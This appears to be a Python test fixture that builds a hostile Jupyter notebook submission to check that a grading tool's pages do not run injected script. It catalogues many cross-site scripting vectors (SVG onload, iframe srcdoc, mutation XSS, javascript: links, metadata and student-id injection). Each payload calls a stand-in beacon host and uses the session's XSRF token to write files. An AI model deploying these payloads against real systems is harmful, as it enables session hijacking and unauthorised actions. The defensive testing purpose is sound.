"""A submission that tries to run script wherever it is shown: one vector per way a notebook can
carry markup (markdown cells, raw cells, attachments, rich outputs of executed cells, cell and
notebook metadata, the student's id).

Every vector runs the same payload: it sets ``data-xss-<name>`` on the top document (the DOM
marker), asks for ``http://beacon.invalid/xss-beacon/<name>`` (the browser test sees the
request, also from frames of another origin; the host does not exist), and writes
``xss-<name>.txt`` into the served folder through the Contents API with the cookie's XSRF token
(what an attacker in the instructor's session would do). Vectors that only load a URL (CSS,
remote images, a refresh) ask for the beacon without script. A page passes when no marker is
set, no beacon is requested, no file appears, and the page did not navigate away.
"""
from __future__ import annotations

import base64
import copy
import re
from html.parser import HTMLParser

import nbformat

BEACON = "http://beacon.invalid/xss-beacon/"
MARKER = "data-xss-"


def payload(name: str) -> str:
    """JavaScript without double quotes or angle brackets (it goes into double-quoted attributes)."""
    return ("(function(){var n='%s';"
            "try{top.document.documentElement.setAttribute('%s'+n,'ran')}catch(e){}"
            "try{new Image().src='%s'+n}catch(e){}"
            "try{var m=document.cookie.match(/_xsrf=([^;]+)/);"
            "fetch('/api/contents/xss-'+n+'.txt',{method:'PUT',credentials:'include',"
            "headers:{'Content-Type':'application/json','X-XSRFToken':m?m[1]:''},"
            "body:JSON.stringify({type:'file',format:'text',content:n})})}catch(e){}})()"
            % (name, MARKER, BEACON))


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _eval(name: str, quote: str = "'") -> str:
    """The payload as one call whose only string is base64: it fits where double quotes or
    unbalanced parentheses would end the context (a markdown link's URL, TeX, an unquoted
    attribute with quote='`')."""
    return f"eval(atob({quote}{_b64(payload(name))}{quote}))"


def _markdown_vectors() -> dict[str, str]:
    js = payload
    beacon = lambda n: BEACON + n                           # noqa: E731
    svg = lambda n: (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(n)}">'  # noqa: E731
                     f'<script>{js(n + "-inner")}</script></svg>')
    page = lambda n: f"<script>{js(n)}</script>"            # noqa: E731
    return {
        "img-onerror": f'<img src="x" onerror="{js("img-onerror")}">',
        "script": f"<script>{js('script')}</script>",
        "iframe-srcdoc": f'<iframe srcdoc="&lt;script&gt;{js("iframe-srcdoc")}&lt;/script&gt;"></iframe>',
        "object-data": f'<object data="data:text/html;base64,{_b64(page("object-data"))}"></object>',
        "embed-svg": f'<embed src="data:image/svg+xml;base64,{_b64(svg("embed-svg"))}" type="image/svg+xml">',
        "svg-onload": svg("svg-onload"),
        "details-ontoggle": f'<details open ontoggle="{js("details-ontoggle")}"><summary>x</summary></details>',
        "body-onload": f'<body onload="{js("body-onload")}"></body>',
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url={beacon("meta-refresh")}">',
        "base-href": f'<base href="{beacon("base-href")}/">',
        "style-import": f"<style>@import url('{beacon('style-import')}'); "
                        f".cell {{ background-image: url('{beacon('style-background')}') }}</style>",
        "style-attribute": f"<div style=\"background-image: url('{beacon('style-attribute')}')\">styled</div>",
        "link-stylesheet": f'<link rel="stylesheet" href="{beacon("link-stylesheet")}">',
        "remote-image": f"![remote]({beacon('remote-image')}.png)",
        "javascript-link": f"[a link](javascript:{_eval('javascript-link')})",
        "javascript-anchor": f'<a href="javascript:{js("javascript-anchor")}" id="xss-anchor">click</a>',
        "data-html-link": f'<a href="data:text/html;base64,{_b64(page("data-html-link"))}">open</a>',
        "form-action": f'<form action="javascript:{js("form-action")}"><button>send</button></form>',
        "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror={_eval("noscript-mutation", "`")}>">',
        "math-mutation": f'<math><mtext><table><mglyph><style><img src=x onerror="{js("math-mutation")}">',
        "template-mutation": f'<template><img src=x onerror="{js("template-mutation")}"></template>',
        "mathjax-href": r"$\href{javascript:" + _eval("mathjax-href") + r"}{\text{click}}$",
    }


def _output_code() -> str:
    """Code for an answer cell: rich outputs the notebook's kernel produces when it runs the cell."""
    js = payload
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "xss-model", "version_major": 2,
                                                          "version_minor": 0},
              "text/plain": "a widget"}
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("output-svg")}">'
           f'<script>{js("output-svg-script")}</script></svg>')
    latex = "$\\href{javascript:" + _eval("output-latex") + "}{x}$"
    iframe = f'<iframe srcdoc="&lt;script&gt;{js("output-iframe")}&lt;/script&gt;"></iframe>'
    calls = [
        f"_HTML({repr(chr(60) + 'img src=x onerror=' + chr(34) + js('output-html') + chr(34) + chr(62))})",
        f"_SVG({svg!r})",
        f"_JS({js('output-javascript')!r})",
        f"_MD({repr(chr(60) + 'img src=x onerror=' + chr(34) + js('output-markdown') + chr(34) + chr(62))})",
    ]
    raw = [
        ({"text/latex": latex, "text/plain": "latex"}, {}),
        (widget, {}),
        ({"text/html": iframe, "text/plain": "x"}, {"text/html": {"isolated": False}}),
    ]
    lines = ["from IPython.display import HTML as _HTML, SVG as _SVG, Javascript as _JS, "
             "Markdown as _MD, display as _show"]
    lines += [f"_show({call})" for call in calls]
    lines += [f"_show({data!r}, metadata={meta!r}, raw=True)" for data, meta in raw]
    lines.append(f"print({repr(chr(60) + 'img src=x onerror=' + chr(34) + js('output-stream') + chr(34) + chr(62))})")
    return "\n" + "\n".join(lines) + "\n"


def _attachment_cell():
    js = payload
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("attachment-svg")}"><circle r="4"/></svg>'
    cell = nbformat.v4.new_markdown_cell(
        "An attached picture ![figure](attachment:figure.svg), a page ![page](attachment:page.html) "
        "and one that is missing ![gone](attachment:gone.png)")
    cell["attachments"] = {"figure.svg": {"image/svg+xml": _b64(svg)},
                           "page.html": {"text/html": _b64(f"<script>{js('attachment-html')}</script>")}}
    return cell


def _metadata_cell():
    js = payload("cell-metadata")
    cell = nbformat.v4.new_markdown_cell("A cell whose tags, name and id carry markup.")
    cell.metadata = {"tags": [f'"><img src=x onerror="{js}">', "x' onmouseover='1"],
                     "name": f'<img src=x onerror="{js}">',
                     "jupyter": {"source_hidden": False}}
    cell["id"] = 'x" onmouseover="' + js.replace('"', "")
    return cell


def _raw_cells() -> list:
    cells = []
    for name, meta in (("raw-html", {"raw_mimetype": "text/html"}), ("raw-plain", {}),
                       ("raw-format", {"format": "text/html"})):
        cell = nbformat.v4.new_raw_cell(f'<img src="x" onerror="{payload(name)}">')
        cell.metadata = meta
        cells.append(cell)
    return cells


def _claimed_grade_cell():
    """An added cell that claims to be a grade cell, with markup in its grade id."""
    gid = f'"><img src=x onerror="{payload("grade-id")}">'
    cell = nbformat.v4.new_markdown_cell("I graded myself.")
    cell.metadata["nbgrader"] = {"grade": True, "grade_id": gid, "locked": False, "points": 5,
                                 "schema_version": 3, "solution": True, "task": False}
    return cell


def hostile_notebook(nb):
    """``nb`` (a solved notebook) with every vector added; the answers are unchanged."""
    nb = copy.deepcopy(nb)
    md = [nbformat.v4.new_markdown_cell(f"**{name}**\n\n{text}\n")
          for name, text in _markdown_vectors().items()]
    md.append(nbformat.v4.new_markdown_cell(
        "Ordinary markdown still renders: *emphasis*, `code`, a [link](https://pytorch.org), "
        "math $E = mc^2$ and $$\\sum_{i=1}^n x_i < \\infty$$"))
    extra = md + [_attachment_cell(), _metadata_cell(), *_raw_cells(), _claimed_grade_cell()]
    answers = [i for i, c in enumerate(nb.cells) if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
    first = nb.cells[answers[0]]
    first.source = first.source.rstrip() + "\n" + _output_code()
    last = nb.cells[answers[-1]]
    last.source = last.source.rstrip() + "\n\nraise ValueError(" + repr(
        f'<img src="x" onerror="{payload("output-error")}">') + ")\n"
    nb.cells[answers[0] + 1:answers[0] + 1] = extra
    nb.metadata["title"] = f'</title><script>{payload("notebook-title")}</script>'
    nb.metadata["kernelspec"] = {"name": "python3", "language": "python",
                                 "display_name": f'<img src=x onerror="{payload("kernel-name")}">'}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0,
        "state": {"xss-model": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                                "model_module_version": "2.0.0",
                                "state": {"value": f'<img src=x onerror="{payload("widget-state")}">'}}}}}
    return nb


def hostile_student_ids() -> list[str]:
    """Student ids (folder names: no slash) that are markup: each sets the DOM marker if rendered.
    The second has no comma, so nbgrader's comma-separated student_id_exclude can hold it."""
    return ["<img src=x onerror=top.document.documentElement.setAttribute('data-xss-student-id',1)>",
            "<img src=x onerror=top.document.documentElement.dataset.xssStudentName=1>"]


class _Dangers(HTMLParser):
    """Elements and attributes in a page that could run script, load a URL or navigate."""

    ACTIVE = {"script", "iframe", "object", "embed", "base", "meta", "form", "link", "style", "frame",
              "frameset", "applet", "svg", "math", "template", "noscript"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in self.ACTIVE:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = "".join((value or "").split()).lower()
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "background") \
                    and not (tag == "img" and name == "src"
                             and re.match(r"data:image/(png|jpeg|gif|webp|svg\+xml);", value)) \
                    and (re.match(r"(javascript|vbscript|data):", value) or name == "srcdoc"
                         or (tag != "a" and re.match(r"(https?:)?//", value))):
                self.found.append(f"<{tag} {name}={value[:30]}>")
            if name == "style" and "url(" in value:
                self.found.append(f"<{tag} style> loads a URL")


def dangers(page: str) -> list[str]:
    """What an HTML fragment holds that could run script, load a URL or navigate by itself."""
    parser = _Dangers()
    parser.feed(page)
    return parser.found
